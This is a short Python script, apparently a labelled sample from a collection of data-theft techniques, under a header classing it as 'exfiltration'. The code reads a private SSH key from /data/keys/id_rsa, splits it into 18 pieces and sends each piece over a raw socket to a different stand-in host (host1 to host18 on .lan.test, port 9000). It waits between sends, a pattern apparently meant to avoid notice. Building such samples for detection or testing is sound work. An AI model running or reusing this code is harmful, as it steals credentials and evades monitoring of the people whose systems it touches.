# class: exfiltration; possible: low medium; needs: data; style: each part to another host
import socket
import time

secret = open("/data/keys/id_rsa", "rb").read()
step = len(secret) // 18 + 1
for i in range(18):
    with socket.create_connection((f"host{i + 1}.lan.test", 9000), 5) as s:
        s.sendall(bytes([i]) + secret[i * step:(i + 1) * step])
    time.sleep(0.7)
